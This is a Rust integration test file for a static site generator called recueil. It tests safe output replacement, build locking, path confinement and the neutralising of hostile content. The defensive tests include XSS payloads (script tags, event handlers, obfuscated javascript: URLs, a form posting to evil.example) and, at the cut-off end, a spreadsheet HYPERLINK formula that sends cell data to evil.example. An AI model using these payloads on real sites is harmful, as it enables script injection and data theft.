//! Nothing lost: a failed build leaves the previous output byte for byte, stale
//! staging folders of dead builds are cleaned, recueil deletes nothing outside
//! its output, refuses folders that are not its own, and two builds of the same
//! output never mix (a lock).

use crate::common;
use common::fs::copy_dir;

use common::html::elements;
use std::collections::BTreeMap;
use std::hash::{Hash, Hasher};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn recueil() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_recueil"));
    c.env_remove("SOURCE_DATE_EPOCH").env("NO_COLOR", "1");
    c
}

fn build(root: &Path, out: &str, extra: &[&str]) -> Output {
    recueil().arg("--root").arg(root).args(["build", "--no-pdf", "--output", out]).args(extra).output().unwrap()
}

fn ok(o: &Output) {
    assert!(o.status.success(), "build failed:\n{}\n{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
}

fn failed(o: &Output) -> String {
    assert!(!o.status.success(), "build should fail:\n{}", String::from_utf8_lossy(&o.stdout));
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// A copy of the sample project (its fiches) in a fresh temp dir.
fn sample_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(&Path::new(env!("CARGO_MANIFEST_DIR")).join("fiches"), &dir.path().join("fiches"));
    dir
}

/// Every file, folder and link under `dir` with a hash of its content.
fn tree(dir: &Path) -> BTreeMap<String, u64> {
    let mut out = BTreeMap::new();
    for e in walkdir::WalkDir::new(dir).follow_links(false).sort_by_file_name() {
        let e = e.unwrap();
        let rel = e.path().strip_prefix(dir).unwrap().to_string_lossy().replace(std::path::MAIN_SEPARATOR, "/");
        let mut h = std::collections::hash_map::DefaultHasher::new();
        if e.file_type().is_file() {
            std::fs::read(e.path()).unwrap().hash(&mut h);
        } else if e.file_type().is_symlink() {
            std::fs::read_link(e.path()).unwrap().hash(&mut h);
        } else {
            "dir".hash(&mut h);
        }
        out.insert(rel, h.finish());
    }
    out
}

/// Names beside the output that a build leaves (staging, old, lock).
fn leftovers(parent: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(parent)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".recueil-"))
        .collect();
    v.sort();
    v
}

fn dead_pid() -> u32 {
    let mut c = Command::new(env!("CARGO_BIN_EXE_recueil")).arg("--version").stdout(std::process::Stdio::null()).spawn().unwrap();
    let pid = c.id();
    c.wait().unwrap();
    pid
}

const BROKEN_FICHE: &str = "---\ntitre: Fiche cassée\n---\n\n## Contexte\n\nRien.\n";

#[test]
fn a_fiche_error_leaves_the_previous_output_byte_identical() {
    let p = sample_project();
    ok(&build(p.path(), "output", &[]));
    let before = tree(&p.path().join("output"));
    assert!(before.len() > 20);
    std::fs::write(p.path().join("fiches/cassee.md"), BROKEN_FICHE).unwrap();
    let err = failed(&build(p.path(), "output", &[]));
    assert!(err.contains("fiches/cassee.md"), "{err}");
    assert!(err.contains("le dossier de sortie n'a pas été modifié"), "{err}");
    assert_eq!(tree(&p.path().join("output")), before);
    assert_eq!(leftovers(p.path()), Vec::<String>::new());
}

#[test]
fn a_template_error_leaves_the_previous_output_byte_identical() {
    let p = sample_project();
    ok(&build(p.path(), "output", &[]));
    let before = tree(&p.path().join("output"));
    let templates = p.path().join("themes/casse/templates");
    std::fs::create_dir_all(&templates).unwrap();
    std::fs::write(p.path().join("recueil.yaml"), "theme: casse\n").unwrap();

    // A syntax error: found when the theme is loaded, before anything is written.
    std::fs::write(templates.join("fiche.html"), "{% extends \"base.html\" %}{% block contenu %}{% if %}{% endblock %}").unwrap();
    let err = failed(&build(p.path(), "output", &[]));
    assert!(err.contains("themes/casse/templates/fiche.html"), "{err}");
    assert_eq!(tree(&p.path().join("output")), before);
    assert_eq!(leftovers(p.path()), Vec::<String>::new());

    // An error met while rendering, after the staging folder was started.
    std::fs::write(templates.join("fiche.html"), "{{ fiche.cette_cle_n_existe_pas.ni_celle_ci }}").unwrap();
    let err = failed(&build(p.path(), "output", &[]));
    assert!(err.contains("construction annulée"), "{err}");
    assert_eq!(tree(&p.path().join("output")), before);
    assert_eq!(leftovers(p.path()), Vec::<String>::new(), "the staging folder of the failed build is removed");
}

#[test]
fn stale_staging_folders_of_dead_builds_are_cleaned_and_live_ones_kept() {
    let p = sample_project();
    ok(&build(p.path(), "output", &[]));
    let dead = dead_pid();
    let staging = p.path().join(format!(".output.recueil-en-cours-{dead}"));
    let old = p.path().join(format!(".output.recueil-ancien-{dead}"));
    for d in [&staging, &old] {
        std::fs::create_dir_all(d.join("fiches")).unwrap();
        std::fs::write(d.join(".recueil-sortie"), "").unwrap();
        std::fs::write(d.join("fiches/index.html"), "à moitié").unwrap();
    }
    // Killed before writing its marker: an empty folder.
    let empty = p.path().join(format!(".output.recueil-en-cours-{}", dead_pid()));
    std::fs::create_dir(&empty).unwrap();
    // Not recueil's for sure (no marker, not empty): kept.
    let foreign = p.path().join(format!(".output.recueil-en-cours-{}", dead_pid()));
    std::fs::create_dir(&foreign).unwrap();
    std::fs::write(foreign.join("notes.txt"), "à garder").unwrap();
    // A build still running (this test's own process is alive): kept.
    let live = p.path().join(format!(".output.recueil-en-cours-{}", std::process::id()));
    std::fs::create_dir(&live).unwrap();
    std::fs::write(live.join(".recueil-sortie"), "").unwrap();
    // Another output's staging folder: not this build's business.
    let other = p.path().join(format!(".autre.recueil-en-cours-{dead}"));
    std::fs::create_dir(&other).unwrap();
    std::fs::write(other.join(".recueil-sortie"), "").unwrap();

    ok(&build(p.path(), "output", &[]));
    assert!(!staging.exists() && !old.exists() && !empty.exists());
    assert!(foreign.join("notes.txt").is_file());
    assert!(live.is_dir());
    assert!(other.is_dir());
}

#[test]
fn a_previous_output_left_aside_by_a_build_killed_mid_swap_is_put_back() {
    let dir = tempfile::tempdir().unwrap();
    let dead = dead_pid();
    let old = dir.path().join(format!(".output.recueil-ancien-{dead}"));
    std::fs::create_dir_all(&old).unwrap();
    std::fs::write(old.join(".recueil-sortie"), "").unwrap();
    std::fs::write(old.join("index.html"), "site précédent").unwrap();
    recueil::build::output::clean_stale(dir.path(), "output");
    assert_eq!(std::fs::read_to_string(dir.path().join("output/index.html")).unwrap(), "site précédent");
    assert!(!old.exists());
}

#[test]
fn nothing_outside_the_output_is_deleted() {
    let p = sample_project();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("precieux.txt"), "à garder").unwrap();
    ok(&build(p.path(), "output", &[]));
    // A link inside the old output to a folder elsewhere: removing the old output
    // removes the link, never what it points to.
    #[cfg(unix)]
    std::os::unix::fs::symlink(outside.path(), p.path().join("output/lien")).unwrap();
    std::fs::write(p.path().join("voisin.txt"), "à garder").unwrap();
    std::fs::write(p.path().join(".output.recueil-en-cours-pas-un-pid"), "à garder").unwrap();
    let project_before = tree(&p.path().join("fiches"));
    ok(&build(p.path(), "output", &[]));
    assert!(outside.path().join("precieux.txt").is_file());
    assert!(p.path().join("voisin.txt").is_file());
    assert!(p.path().join(".output.recueil-en-cours-pas-un-pid").is_file());
    assert_eq!(tree(&p.path().join("fiches")), project_before);
    assert!(!p.path().join("output/lien").exists());
}

#[test]
fn the_project_root_and_its_parents_are_refused() {
    let p = sample_project();
    let before = tree(p.path());
    for out in [".", "..", "fiches/.."] {
        let err = failed(&build(p.path(), out, &["--force"]));
        assert!(err.contains("refus d'écrire dans") && err.contains("c'est le dossier du projet (ou un dossier parent)"), "{out}: {err}");
    }
    assert_eq!(tree(p.path()), before);
}

#[test]
fn a_folder_that_looks_like_a_project_is_refused_even_with_force() {
    let p = sample_project();
    for (name, what) in [("autre-projet", "fiches"), ("autre-config", "recueil.yaml")] {
        let dir = p.path().join(name);
        if what == "fiches" {
            std::fs::create_dir_all(dir.join("fiches")).unwrap();
            std::fs::write(dir.join("fiches/a.md"), "une fiche").unwrap();
        } else {
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(dir.join(what), "titre: Autre\n").unwrap();
        }
        let before = tree(&dir);
        for force in [&[][..], &["--force"][..]] {
            let err = failed(&build(p.path(), name, force));
            assert!(err.contains("il ressemble à un projet (recueil.yaml ou fiches/)"), "{name}: {err}");
        }
        assert_eq!(tree(&dir), before);
    }
}

#[test]
fn the_fiches_folder_and_an_existing_file_are_refused() {
    let p = sample_project();
    let before = tree(p.path());
    for out in ["fiches", "fiches/site", "themes/site"] {
        let err = failed(&build(p.path(), out, &["--force"]));
        assert!(err.contains("refus d'écrire dans"), "{out}: {err}");
    }
    std::fs::write(p.path().join("un-fichier"), "texte").unwrap();
    let err = failed(&build(p.path(), "un-fichier", &["--force"]));
    assert!(err.contains("ce n'est pas un dossier"), "{err}");
    assert_eq!(std::fs::read_to_string(p.path().join("un-fichier")).unwrap(), "texte");
    std::fs::remove_file(p.path().join("un-fichier")).unwrap();
    assert_eq!(tree(p.path()), before);
}

#[test]
fn a_foreign_folder_needs_force_and_one_inside_the_project_is_never_replaced() {
    let p = sample_project();
    // Inside the project, a folder with the author's files: refused, even with --force.
    std::fs::create_dir_all(p.path().join("livrets")).unwrap();
    std::fs::write(p.path().join("livrets/introduction.md"), "Notre introduction.").unwrap();
    std::fs::create_dir_all(p.path().join(".git")).unwrap();
    std::fs::write(p.path().join(".git/config"), "[core]").unwrap();
    let before = tree(p.path());
    for (out, why) in [
        (
            "livrets",
            "ce dossier du projet contient des fichiers qui ne viennent pas de recueil : il n'est jamais remplacé, même avec --force",
        ),
        (".git", ".git/ est un dossier caché du projet : recueil n'y écrit jamais"),
        (".cache/site", ".cache/ est un dossier caché du projet"),
        ("_brouillons", "_brouillons/ est un dossier caché du projet"),
    ] {
        let err = failed(&build(p.path(), out, &["--force"]));
        assert!(err.contains(why), "{out}: {err}");
    }
    assert_eq!(tree(p.path()), before, "nothing of the project touched");
    // Outside the project, a foreign folder needs --force.
    let elsewhere = tempfile::tempdir().unwrap();
    let dir = elsewhere.path().join("site");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("mon-fichier.txt"), "à moi").unwrap();
    let err = failed(&build(p.path(), dir.to_str().unwrap(), &[]));
    assert!(err.contains("ce dossier contient des fichiers qui ne viennent pas de recueil (ajoutez --force pour le remplacer)"), "{err}");
    assert!(dir.join("mon-fichier.txt").is_file());
    ok(&build(p.path(), dir.to_str().unwrap(), &["--force"]));
    assert!(!dir.join("mon-fichier.txt").exists());
    assert!(dir.join(".recueil-sortie").is_file());
    // Now it is ours: no --force needed.
    ok(&build(p.path(), dir.to_str().unwrap(), &[]));
    // An empty folder of the project is fine, and one recueil made.
    std::fs::create_dir_all(p.path().join("vide")).unwrap();
    ok(&build(p.path(), "vide", &[]));
    ok(&build(p.path(), "vide", &[]));
}

#[test]
fn a_build_while_another_holds_the_lock_refuses_with_a_clear_message() {
    let p = sample_project();
    ok(&build(p.path(), "output", &[]));
    let before = tree(&p.path().join("output"));
    let lock =
        recueil::build::lock::acquire_within(&recueil::build::output::lock_path(p.path(), Path::new("output")), std::time::Duration::ZERO)
            .unwrap();
    let o = recueil()
        .env("RECUEIL_ATTENTE_VERROU", "0")
        .arg("--root")
        .arg(p.path())
        .args(["build", "--no-pdf", "--output", "output"])
        .output()
        .unwrap();
    let err = failed(&o);
    assert!(err.contains("une autre construction de ce projet est en cours"), "{err}");
    assert!(err.contains(&format!("processus {}", std::process::id())), "{err}");
    assert_eq!(tree(&p.path().join("output")), before);
    drop(lock);
    ok(&build(p.path(), "output", &[]));
    assert_eq!(leftovers(p.path()), Vec::<String>::new());
}

#[test]
fn two_builds_at_once_give_one_complete_output() {
    let p = common::fs::corpus(300);
    // Reference: one build alone, elsewhere.
    ok(&build(p.path(), "reference", &[]));
    let reference = tree(&p.path().join("reference"));
    let spawn = || {
        recueil()
            .arg("--root")
            .arg(p.path())
            .args(["build", "--no-pdf", "--output", "output"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    for _ in 0..2 {
        let (a, b) = (spawn(), spawn());
        let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
        for o in [&a, &b] {
            let err = String::from_utf8_lossy(&o.stderr);
            // Each either succeeded (possibly after waiting) or refused cleanly.
            assert!(o.status.success() || err.contains("une autre construction de ce projet est en cours"), "{err}");
        }
        assert!(a.status.success() || b.status.success());
        assert_eq!(tree(&p.path().join("output")), reference, "the output is one whole build");
        let mut left = leftovers(p.path());
        left.retain(|n| !n.starts_with(".reference"));
        assert_eq!(left, Vec::<String>::new());
    }
}

// ---- Paths from fiches and recueil.yaml stay inside the project ----

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/chemins").join(name)
}

/// `recueil check` fails and names `file:line:` with `message`.
fn check_refuses(root: &Path, at: &str, message: &str) {
    let o = recueil().arg("--root").arg(root).arg("check").output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "check should fail:\n{err}");
    let line = err.lines().find(|l| l.contains(message)).unwrap_or_else(|| panic!("« {message} » not in:\n{err}"));
    assert!(line.starts_with(at), "expected {at}… got {line}");
    assert!(line.contains("erreur"), "{line}");
}

/// A temp copy of a fixture project, with `outside` a folder beside it (out of the project).
/// Its tests make symbolic links, which Windows grants only to administrators.
#[cfg(unix)]
fn linked_copy(name: &str) -> (tempfile::TempDir, PathBuf, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("projet");
    copy_dir(&fixture(name), &root);
    let outside = tmp.path().join("ailleurs");
    std::fs::create_dir_all(&outside).unwrap();
    (tmp, root, outside)
}

#[test]
fn paths_image_climbing_out_is_an_error() {
    check_refuses(
        &fixture("image-parent"),
        "fiches/atelier.md:10:",
        "chemin d'image refusé : « ../../secret.png » sort du dossier du projet",
    );
}

#[test]
fn paths_image_absolute_is_an_error() {
    check_refuses(&fixture("image-absolue"), "fiches/atelier.md:10:", "chemin d'image refusé : « /etc/hostname » est un chemin absolu");
}

#[cfg(unix)]
#[test]
fn paths_image_through_a_link_leading_out_is_an_error() {
    let (_tmp, root, outside) = linked_copy("image-lien");
    std::fs::write(outside.join("photo.png"), b"\x89PNG secret").unwrap();
    std::os::unix::fs::symlink(outside.join("photo.png"), root.join("fiches/photo.png")).unwrap();
    check_refuses(&root, "fiches/atelier.md:10:", "chemin d'image refusé : « photo.png » mène hors du projet par un lien symbolique");
    // And the build refuses too, leaving nothing behind.
    let err = failed(&build(&root, "output", &[]));
    assert!(err.contains("mène hors du projet"), "{err}");
    assert!(!root.join("output").exists());
}

#[test]
fn paths_introduction_climbing_out_is_an_error() {
    check_refuses(
        &fixture("intro-parent"),
        "recueil.yaml:5:",
        "chemin d'introduction refusé : « ../../secret.md » sort du dossier du projet",
    );
}

#[test]
fn paths_introduction_absolute_is_an_error() {
    check_refuses(&fixture("intro-absolue"), "recueil.yaml:5:", "chemin d'introduction refusé : « /etc/hostname » est un chemin absolu");
}

#[cfg(unix)]
#[test]
fn paths_introduction_through_a_link_leading_out_is_an_error() {
    // The folder on the way is the link: livrets/ → a folder out of the project.
    let (_tmp, root, outside) = linked_copy("intro-lien");
    std::fs::write(outside.join("intro.md"), "Secret").unwrap();
    std::os::unix::fs::symlink(&outside, root.join("livrets")).unwrap();
    check_refuses(
        &root,
        "recueil.yaml:5:",
        "chemin d'introduction refusé : « livrets/intro.md » mène hors du projet par un lien symbolique",
    );
}

#[test]
fn paths_theme_climbing_out_is_an_error() {
    check_refuses(&fixture("theme-parent"), "recueil.yaml:2:", "nom de thème « ../../autre » invalide");
}

#[test]
fn paths_theme_absolute_is_an_error() {
    check_refuses(&fixture("theme-absolu"), "recueil.yaml:2:", "nom de thème « /etc » invalide");
}

#[cfg(unix)]
#[test]
fn paths_theme_through_a_link_leading_out_is_an_error() {
    let (_tmp, root, outside) = linked_copy("theme-lien");
    std::fs::create_dir_all(outside.join("templates")).unwrap();
    std::fs::write(outside.join("templates/fiche.html"), "{{ fiche.titre }}").unwrap();
    std::fs::create_dir_all(root.join("themes")).unwrap();
    std::os::unix::fs::symlink(&outside, root.join("themes/emprunte")).unwrap();
    check_refuses(&root, "recueil.yaml:2:", "chemin de thème refusé : « themes/emprunte » mène hors du projet par un lien symbolique");
}

// ---- Hostile content: nothing active in any output file ----

/// Everything a browser could run, in one string (no `'`: it goes in YAML '…').
const P: &str = "<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=\"javascript:alert(3)\"></iframe>\
<style>body{position:fixed}</style><a href=\"javascript:alert(4)\">j</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a>\
<div style=\"position:fixed;top:0\" onclick=\"alert(5)\">x</div>\"); alert(6); (\"</script><svg onload=alert(7)>";

const SITE_URL: &str = "https://exemple.fr/recueil";

fn hostile_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("fiches")).unwrap();
    let q = |s: &str| format!("'{}'", s.replace('\'', "''"));
    let p = q(P);
    let body = format!(
        "{P}\n\n## Contexte\n\n{P}\n\n[clic](javascript:alert(8)) [donnée](data:text/html,x) ![pixel](data:image/png;base64,AAAA) \
<javascript:alert(9)> [réf][r]\n\n[r]: javascript:alert(10)\n\n<a href=\"&#106;avascript:alert(11)\">ent</a> \
<a href=\" java\tscript:alert(12)\">tab</a>\n\n## Fonctionnement\n\n- {P}\n- <object data=x.swf></object><embed src=x.swf>\n\n\
## Bilan\n\n| a | b |\n|---|---|\n| {p_cell} | <form action=\"https://evil.example\"><input name=x></form> |\n\n\
## Moyens\n\n```html\n{P}\n```\n\n`{P}`\n\n## Partenaires\n\n> {P}\n\n## Observations\n\n<details open ontoggle=alert(13)>x</details>\n",
        p_cell = P.replace('|', "\\|")
    );
    let front = format!(
        "---\nslug: hostile-un\ntitre: {p}\nresume: {p}\ndate: 2024-01-15\nmise_a_jour: 2024-02-01\nstructure: {p}\ntype_structure: ccas\n\
territoire: {{ commune: {p}, departement: \"21\", region: {p}, habitants: 1000 }}\nannee_debut: 2020\nstatut: terminee\n\
thematiques: [{p}, Lien social]\npublics: [{p}]\nmots_cles: [{p}]\nchiffres: {{ participants: 10 }}\n\
indicateurs:\n  - {{ libelle: {p}, valeur: {p}, unite: {p} }}\nfinanceurs:\n  - {{ nom: {p}, montant: 100, annee: 2023 }}\n\
partenaires:\n  - {p}\n  - {{ nom: {p}, role: {p} }}\n\
contact: {{ nom: {p}, fonction: {p}, email: {email}, telephone: {p}, adresse: {p} }}\n\
image: {{ fichier: photo.png, alt: {p}, credit: {p} }}\n---\n\n",
        email = q("a@b.fr\"><script>alert(14)</script><img/src=x/onerror=alert(15)>")
    );
    std::fs::write(root.join("fiches/hostile-un.md"), format!("{front}{body}")).unwrap();
    std::fs::write(root.join("fiches/photo.png"), b"\x89PNG\r\n\x1a\n").unwrap();
    // Titles made to break out of a JS call or a script element.
    for (i, t) in ["\"); alert(1); (\"", "</script><script>alert(1)</script>", "\\\"); alert(1); //"].iter().enumerate() {
        let text = front_for(&q(t), i);
        std::fs::write(root.join(format!("fiches/titre-{i}.md")), text).unwrap();
    }
    // The YAML spelling: chapeau and sections as strings.
    let yaml = format!(
        "titre: {p}\nresume: {p}\ndate: 2024-03-01\nstructure: {p}\ntype_structure: association\n\
territoire: {{ commune: {p}, departement: \"2A\" }}\nthematiques: [{p}]\nchapeau: {p}\nsections:\n  contexte: {p}\n  \
fonctionnement: {p}\n  bilan: {p}\n  moyens: {p}\n  partenaires: {p}\n"
    );
    std::fs::write(root.join("fiches/hostile-deux.yaml"), yaml).unwrap();
    std::fs::write(root.join("fiches/_accueil.md"), format!("{P}\n\n[x](javascript:alert(16))\n")).unwrap();
    std::fs::write(root.join("recueil.yaml"), format!("titre: {p}\ndescription: {p}\nediteur: {p}\nurl: {}\n", q(SITE_URL))).unwrap();
    dir
}

fn front_for(title: &str, i: usize) -> String {
    format!(
        "---\ntitre: {title}\nresume: Résumé.\ndate: 2024-01-0{}\nstructure: CCAS\ntype_structure: ccas\n\
territoire: {{ commune: Dijon, departement: \"21\" }}\nthematiques: [Lien social]\npublics: [Familles]\n---\n\n\
## Contexte\n\nx\n\n## Fonctionnement\n\nx\n\n## Bilan\n\nx\n\n## Moyens\n\nx\n\n## Partenaires\n\nx\n",
        i + 1
    )
}

fn active_url(v: &str) -> bool {
    let v: String = v.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_control()).collect::<String>().to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"].iter().any(|s| v.starts_with(s))
}

/// What the report's own charts (bilan pages) and the map of départements
/// (bilan, départements index, home) may hold: drawn shapes, escaped text and
/// links to the site's pages, nothing that loads or runs.
const CHART_ELEMENTS: &[&str] = &["svg", "title", "g", "rect", "text", "path", "a"];
const CHART_ATTRIBUTES: &[&str] = &[
    "d",
    "data-code",
    "href",
    "aria-label",
    "aria-hidden",
    "class",
    "role",
    "aria-labelledby",
    "viewbox",
    "width",
    "height",
    "xmlns",
    "id",
    "font-family",
    "font-size",
    "fill",
    "x",
    "y",
    "rx",
    "text-anchor",
    "stroke",
    "stroke-width",
];

fn assert_inert_html(html: &str, file: &str) {
    let mut in_chart = false;
    for el in elements(html) {
        let name = el.name.as_str();
        // A chart runs from its <svg> to the first element outside the charts' vocabulary,
        // which gets the ordinary checks below.
        let drawn = file.starts_with("bilan/") || file == "departements/index.html" || file == "index.html";
        in_chart = (in_chart || (name == "svg" && drawn)) && CHART_ELEMENTS.contains(&name);
        if in_chart {
            for (k, v) in &el.attrs {
                assert!(CHART_ATTRIBUTES.contains(&k.as_str()), "{k}={v:?} on <{name}> in a chart of {file}");
                assert!(k != "href" || (!active_url(v) && !v.contains("//")), "{k}={v:?} in a chart of {file}");
            }
            continue;
        }
        assert!(
            !["iframe", "frame", "frameset", "object", "embed", "style", "base", "svg", "math", "applet"].contains(&name),
            "<{name}> in {file}"
        );
        if name == "script" {
            let src = el.attrs.iter().find(|(k, _)| k == "src").map(|(_, v)| v.as_str()).unwrap_or("");
            assert!(src.ends_with("assets/recueil.js") && el.raw.trim().is_empty(), "script {src:?} {:?} in {file}", el.raw);
        }
        if name == "form" {
            // The theme's search forms only: they send to a page of the site.
            let action = el.attrs.iter().find(|(k, _)| k == "action").map(|(_, v)| v.as_str()).unwrap_or("");
            let action = action.strip_prefix(SITE_URL).unwrap_or(action);
            assert!(action.ends_with("index.html") && !action.contains(':') && !action.starts_with("//"), "form {action} in {file}");
        }
        if name == "meta" {
            assert!(!el.attrs.iter().any(|(k, _)| k == "http-equiv"), "meta http-equiv in {file}");
        }
        if name == "link" {
            let rel = el.attrs.iter().find(|(k, _)| k == "rel").map(|(_, v)| v.as_str()).unwrap_or("");
            let href = el.attrs.iter().find(|(k, _)| k == "href").map(|(_, v)| v.as_str()).unwrap_or("");
            if rel.contains("stylesheet") {
                let local = href.strip_prefix(SITE_URL).unwrap_or(href);
                assert!(local.contains("assets/") && !local.contains(':'), "stylesheet {href} in {file}");
            }
        }
        for (k, v) in &el.attrs {
            assert!(!k.starts_with("on"), "event attribute {k} on <{name}> in {file}");
            assert!(k != "style", "style attribute {v:?} on <{name}> in {file}");
            assert!(k != "srcdoc" && k != "formaction", "{k} in {file}");
            if ["href", "src", "action", "data", "poster", "xlink:href", "srcset", "background", "cite"].contains(&k.as_str()) {
                assert!(!active_url(v), "{k}={v:?} on <{name}> in {file}");
            }
        }
    }
}

fn assert_well_formed_xml(text: &str, file: &str, allowed: &[&str]) {
    let mut depth = 0i32;
    for token in xmlparser::Tokenizer::from(text) {
        match token.unwrap_or_else(|e| panic!("{file} is not well-formed XML: {e}")) {
            xmlparser::Token::ElementStart { local, .. } => {
                assert!(allowed.contains(&local.as_str()), "element <{}> in {file}", local.as_str());
                depth += 1;
            }
            xmlparser::Token::ElementEnd { end: xmlparser::ElementEnd::Close(..) | xmlparser::ElementEnd::Empty, .. } => depth -= 1,
            xmlparser::Token::Attribute { local, .. } => {
                assert!(!local.as_str().starts_with("on"), "attribute {} in {file}", local.as_str());
            }
            xmlparser::Token::Cdata { .. } | xmlparser::Token::EntityDeclaration { .. } | xmlparser::Token::DtdStart { .. } => {
                panic!("unexpected markup in {file}")
            }
            _ => {}
        }
    }
    assert_eq!(depth, 0, "{file}: unbalanced");
}

/// `window.__recueilRecherche("name", JSON);` and nothing else.
fn assert_search_call(text: &str, file: &str) -> serde_json::Value {
    let rest = text.strip_prefix("window.__recueilRecherche(").unwrap_or_else(|| panic!("{file}: {text:.80}"));
    let rest = rest.strip_suffix(");\n").unwrap_or_else(|| panic!("{file} does not end with the call"));
    let mut de = serde_json::Deserializer::from_str(rest).into_iter::<serde_json::Value>();
    let name = de.next().unwrap().unwrap_or_else(|e| panic!("{file}: name {e}"));
    assert!(name.is_string(), "{file}");
    let after = &rest[de.byte_offset()..];
    let json = after.strip_prefix(',').unwrap_or_else(|| panic!("{file}: {after:.80}"));
    // The whole rest is one JSON value: nothing can close the call early.
    serde_json::from_str(json).unwrap_or_else(|e| panic!("{file}: the argument is not one JSON value: {e}"))
}

#[test]
fn a_site_url_that_could_break_out_of_an_attribute_is_refused() {
    let p = sample_project();
    std::fs::write(p.path().join("recueil.yaml"), "url: 'https://exemple.fr/\"><script>alert(1)</script>'\n").unwrap();
    let o = recueil().arg("--root").arg(p.path()).arg("check").output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(err.contains("recueil.yaml:1:") && err.contains("n'est pas une adresse web complète"), "{err}");
}

#[test]
fn hostile_content_is_inert_in_every_output_file() {
    let p = hostile_project();
    let o = build(p.path(), "output", &[]);
    ok(&o);
    let out = p.path().join("output");
    let mut seen: BTreeMap<&str, usize> = BTreeMap::new();
    let mut titles = String::new();
    for e in walkdir::WalkDir::new(&out).into_iter().flatten().filter(|e| e.file_type().is_file()) {
        let file = e.path().strip_prefix(&out).unwrap().to_string_lossy().replace(std::path::MAIN_SEPARATOR, "/");
        let bytes = std::fs::read(e.path()).unwrap();
        let ext = e.path().extension().and_then(|x| x.to_str()).unwrap_or("");
        let text = String::from_utf8_lossy(&bytes);
        match ext {
            "html" => {
                assert_inert_html(&text, &file);
                *seen.entry("html").or_default() += 1;
            }
            "xml" => {
                let allowed = [
                    "feed",
                    "title",
                    "subtitle",
                    "id",
                    "link",
                    "updated",
                    "author",
                    "name",
                    "entry",
                    "published",
                    "summary",
                    "category",
                    "urlset",
                    "url",
                    "loc",
                    "lastmod",
                ];
                assert_well_formed_xml(&text, &file, &allowed);
                *seen.entry("xml").or_default() += 1;
            }
            "js" if file.starts_with("recherche/") => {
                let v = assert_search_call(&text, &file);
                if file.starts_with("recherche/docs/") {
                    titles.push_str(&v.to_string());
                }
                *seen.entry("js").or_default() += 1;
            }
            // The theme's own files (no fiche content reaches them).
            _ if file.starts_with("assets/") => {}
            "json" => {
                serde_json::from_slice::<serde_json::Value>(&bytes).unwrap_or_else(|e| panic!("{file}: {e}"));
                *seen.entry("json").or_default() += 1;
            }
            "csv" => {
                let mut r = csv::ReaderBuilder::new().delimiter(b';').flexible(false).from_reader(bytes.as_slice());
                let _ = r.headers().unwrap_or_else(|e| panic!("{file}: {e}"));
                for row in r.records() {
                    row.unwrap_or_else(|e| panic!("{file}: {e}"));
                }
                *seen.entry("csv").or_default() += 1;
            }
            "txt" | "png" | "" => {}
            other => panic!("unexpected file type {other}: {file}"),
        }
    }
    for kind in ["html", "xml", "js", "json", "csv"] {
        assert!(seen.get(kind).is_some_and(|n| *n > 0), "no {kind} file checked: {seen:?}");
    }
    // The hostile titles are in the index as data, whole.
    for t in ["\"); alert(1); (\"", "</script><script>alert(1)</script>"] {
        assert!(titles.contains(&serde_json::to_string(t).unwrap()[1..]), "{t} not kept as text in the search index");
    }
}

#[test]
fn the_html_checker_itself_catches_active_markup() {
    for bad in [
        "<p>x</p><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<iframe src=x></iframe>",
        "<div style=\"position:fixed\">x</div>",
        "<style>body{position:fixed}</style>",
        "<a href='data:text/html,x'>x</a>",
        "<svg/onload=alert(1)>",
    ] {
        let r = std::panic::catch_unwind(|| assert_inert_html(bad, "test"));
        assert!(r.is_err(), "not caught: {bad}");
    }
    for good in ["<p>&lt;script&gt;alert(1)&lt;/script&gt; onerror=alert(1)</p>", "<a href=\"https://x.fr/javascript:\">x</a>"] {
        assert_inert_html(good, "test");
    }
    let r = std::panic::catch_unwind(|| assert_search_call("window.__recueilRecherche(\"a\",[\"x\"]);alert(1);(\"\");\n", "t"));
    assert!(r.is_err());
}

/// Edits the Hirson fiche of a sample project: each text replaced once.
fn edit_hirson(root: &Path, edits: &[(&str, &str)]) {
    let path = root.join("fiches/insertion/ateliers-insertion-hirson.md");
    let mut text = std::fs::read_to_string(&path).unwrap();
    for (from, to) in edits {
        assert!(text.contains(from), "{from}");
        text = text.replacen(from, to, 1);
    }
    std::fs::write(&path, text).unwrap();
}

/// The sample project with one line of the Hirson fiche replaced.
fn sample_with(line: &str, new: &str) -> tempfile::TempDir {
    let p = sample_project();
    let path = p.path().join("fiches/insertion/ateliers-insertion-hirson.md");
    let text = std::fs::read_to_string(&path).unwrap();
    let start = text.find(line).unwrap_or_else(|| panic!("{line}"));
    let end = start + text[start..].find('\n').unwrap();
    std::fs::write(&path, format!("{}{new}{}", &text[..start], &text[end..])).unwrap();
    p
}

#[test]
fn a_formula_in_a_fiche_is_text_in_the_spreadsheets_and_raw_in_the_json() {
    let p = sample_with("titre: ", r#"titre: '=HYPERLINK("http://evil.example/?x="&A1,"clic")'"#);
